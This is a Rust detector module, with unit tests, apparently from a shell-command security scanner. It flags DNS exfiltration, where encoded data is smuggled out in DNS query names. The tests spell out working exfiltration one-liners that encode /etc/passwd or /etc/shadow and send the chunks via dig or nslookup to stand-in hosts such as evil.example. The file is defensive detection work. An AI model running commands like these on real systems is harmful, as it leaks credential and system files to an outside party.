//! Data smuggled out in DNS query names: a DNS client queries a name built from a shell
//! variable (`dig $chunk.x.example`) while the same command line encodes data (xxd, base64,
//! od, hexdump, base32). A DNS lookup of a fixed or plain variable name is not this.

use super::{args, Ctx, Findings, ProgramSet};
use crate::knowledge::signals;

const DNS_CLIENTS: &[&str] = &["dig", "nslookup", "host", "drill", "kdig", "delv"];
const ENCODERS: &[&str] = &["xxd", "base64", "base32", "od", "hexdump", "basenc"];

pub fn wants(cx: &Ctx) -> bool {
    cx.may_run(ProgramSet::of(ENCODERS))
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let cmds = cx.commands();
    if !cmds.iter().any(|c| ENCODERS.contains(&c.program())) {
        return;
    }
    for c in cmds {
        if !DNS_CLIENTS.contains(&c.program()) {
            continue;
        }
        if let Some(name) = args(c).iter().find(|a| built_name(a)) {
            out.hit(
                signals::DNS_EXFILTRATION,
                format!("{} queries {name} built from encoded data", c.program()),
            );
            return;
        }
    }
}

/// A query name whose first label is a shell expansion and that goes on to a domain:
/// `$c.x.example`, `${chunk}.evil.example`.
fn built_name(a: &str) -> bool {
    let Some(rest) = a.strip_prefix('$') else {
        return false;
    };
    let label_end = rest.find('.').unwrap_or(rest.len());
    label_end > 0 && label_end + 1 < rest.len()
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn fires_on_encoded_chunks_in_query_names() {
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "for c in $(xxd -p /etc/passwd); do dig +short $c.x.exfil.example; done"
                ]
            ),
            ["dns_exfiltration"]
        );
    }

    #[test]
    fn fires_for_every_dns_client() {
        for client in DNS_CLIENTS {
            let script = format!(
                "for c in $(base64 -w0 /etc/shadow | fold -w60); do {client} ${{c}}.t.evil.example; done"
            );
            assert_eq!(
                run(detect, &["sh", "-c", &script]),
                ["dns_exfiltration"],
                "{client}"
            );
        }
    }

    #[test]
    fn fires_on_a_substitution_as_the_first_label() {
        // The chunk is encoded in place, no loop variable in between.
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "dig $(xxd -p -l 30 /etc/hostname).x.evil.example"
                ]
            ),
            ["dns_exfiltration"]
        );
    }

    #[test]
    fn quiet_on_ordinary_lookups() {
        assert!(run(detect, &["dig", "+short", "example.com"]).is_empty());
        assert!(
            run(detect, &["sh", "-c", "dig +short $HOST"]).is_empty(),
            "no encoder"
        );
        assert!(
            run(
                detect,
                &["sh", "-c", "echo aGk= | base64 -d; nslookup db.internal"]
            )
            .is_empty(),
            "a fixed name"
        );
    }

    #[test]
    fn quiet_on_service_names_built_from_variables() {
        // The same `$x.domain` shape, but nothing on the line encodes data.
        assert!(run(
            detect,
            &[
                "sh",
                "-c",
                "for s in api db; do nslookup $s.default.svc.cluster.local; done"
            ]
        )
        .is_empty());
        // An encoder on the line, but the variable is the whole name (or the server): no label
        // of data in front of a domain.
        for q in ["dig +short $SERVER", "host $NODE.", "dig @$NS example.com"] {
            let script = format!("base64 -d /run/secrets/ca.b64 > /etc/ssl/ca.pem; {q}");
            assert!(run(detect, &["sh", "-c", &script]).is_empty(), "{q}");
        }
    }
}
